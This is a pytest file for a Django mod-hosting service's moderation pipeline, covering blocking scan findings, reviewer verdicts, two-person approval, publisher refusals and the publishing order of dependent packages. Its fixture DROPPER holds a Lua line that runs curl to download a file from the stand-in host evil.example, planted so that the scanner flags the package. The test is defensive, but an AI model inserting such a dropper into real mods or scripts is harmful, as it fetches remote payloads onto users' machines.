"""From a package with a blocking finding, or one that needs another, to the catalog: checks, verdict, approval."""

from typing import Any

import pytest

from accounts import outbox
from accounts.errors import RefusedError
from accounts.models import AuditEntry, User
from catalog.models import Release
from moderation import publication, verdicts
from moderation.actions import decide
from tests import factories
from tests.uploads.sending import send
from uploads.models import Submission
from uploads.states import State

pytestmark = pytest.mark.django_db
DROPPER = b"os.execute('curl -s -o x https://evil.example/x')\n"


def checked(author: User, mod_id: str, files: dict[str, bytes], **more: Any) -> Submission:
    """A submission of these files after a worker has checked it."""
    members = {"Content/init.lua": b"return 1\n"} | files
    data = factories.package(factories.manifest(mod_id, **more), members)
    submission = send(author, data=data, side=factories.sidecar(mod_id, **more))
    outbox.drain()
    return now(submission)


def now(submission: Submission) -> Submission:
    return Submission.objects.select_related("current").get(pk=submission.pk)


def approve(actor: User, submission: Submission) -> None:
    current = submission.current
    assert current is not None
    decide(actor, submission.submission_id, action="approve", revision=current.number, sha256=current.sha256)


def publish() -> None:
    publication.publish_approved(User.objects.system())


@pytest.fixture
def ada() -> User:
    return factories.make_user("modder")


def test_a_blocking_finding_is_judged_before_it_is_published(
    ada: User, moderator: User, second: User, settings: Any
) -> None:
    settings.SMMODS_UNDO_MINUTES = 0
    submission = checked(ada, "space.tools", {"Content/run.lua": DROPPER})
    assert submission.state == State.PENDING_REVIEW
    with pytest.raises(RefusedError) as refused:
        approve(moderator, submission)
    assert refused.value.code == "blocking_finding"
    for finding in verdicts.open_blocking(submission):
        verdicts.judge(second, submission.submission_id, finding.fingerprint, "accepted_risk", "release")
    approve(moderator, submission)
    publish()
    assert now(submission).state == State.PUBLISHED
    assert Release.objects.get().submission_id == submission.submission_id


def test_a_verdict_that_turns_true_after_the_approval_stops_the_publisher(
    ada: User, moderator: User, second: User, settings: Any
) -> None:
    settings.SMMODS_UNDO_MINUTES = 0
    submission = checked(ada, "space.tools", {"Content/run.lua": DROPPER})
    (finding,) = verdicts.open_blocking(submission)
    verdicts.judge(second, submission.submission_id, finding.fingerprint, "false_alarm", "mod")
    approve(moderator, submission)
    verdicts.judge(second, submission.submission_id, finding.fingerprint, "true", "release")
    publish()
    assert now(submission).state == State.PENDING_REVIEW
    refusal = AuditEntry.objects.get(action="publication.refused")
    assert isinstance(refusal.after, dict)
    assert refusal.after["code"] == "blocking_finding"
    assert not Release.objects.exists()


def test_everywhere_takes_two_people_at_the_gate_as_on_the_page(
    ada: User, moderator: User, second: User, settings: Any
) -> None:
    settings.SMMODS_UNDO_MINUTES = 0
    submission = checked(ada, "space.tools", {"Content/run.lua": DROPPER})
    (finding,) = verdicts.open_blocking(submission)
    verdicts.judge(second, submission.submission_id, finding.fingerprint, "false_alarm", "everywhere")
    with pytest.raises(RefusedError) as refused:
        approve(moderator, submission)
    assert refused.value.code == "blocking_finding"
    verdicts.judge(moderator, submission.submission_id, finding.fingerprint, "false_alarm", "everywhere")
    approve(moderator, submission)
    publish()
    assert now(submission).state == State.PUBLISHED


def test_the_page_and_the_trail_agree_on_what_is_open(ada: User, moderator: User, second: User) -> None:
    submission = checked(ada, "space.tools", {"Content/run.lua": DROPPER})
    (finding,) = verdicts.open_blocking(submission)
    for verdict, scope in (
        ("false_alarm", "release"),
        ("true", "mod"),
        ("accepted_risk", "mod"),
        ("true", "release"),
    ):
        verdicts.judge(second, submission.submission_id, finding.fingerprint, verdict, scope)
        is_open = bool(verdicts.open_blocking(submission))
        if is_open:
            with pytest.raises(RefusedError) as refused:
                approve(moderator, submission)
            assert refused.value.code == "blocking_finding"
        assert is_open == (verdict == "true")


def test_a_batch_is_published_in_its_order(ada: User, moderator: User, settings: Any) -> None:
    settings.SMMODS_UNDO_MINUTES = 0
    library = checked(ada, "space.library", {}, name="A library of words")
    wish = [{"id": "space.library", "version": "^1.0.0", "optional": False}]
    needy = checked(ada, "space.needy", {}, dependencies=wish, name="Needs a library")
    assert needy.state == State.PENDING_REVIEW
    assert needy.current is not None
    result = needy.current.results.get(check_id="dependency_contract")
    assert (result.status, result.code) == ("warned", "dependency_in_batch")
    assert needy.current.signals.filter(code="dependency_in_batch").exists()
    with pytest.raises(RefusedError) as refused:
        approve(moderator, needy)
    assert refused.value.code == "dependency_not_published"
    assert refused.value.extra["approveFirst"] == [library.submission_id]
    approve(moderator, library)
    publish()
    approve(moderator, needy)
    publish()
    assert (now(library).state, now(needy).state) == (State.PUBLISHED, State.PUBLISHED)
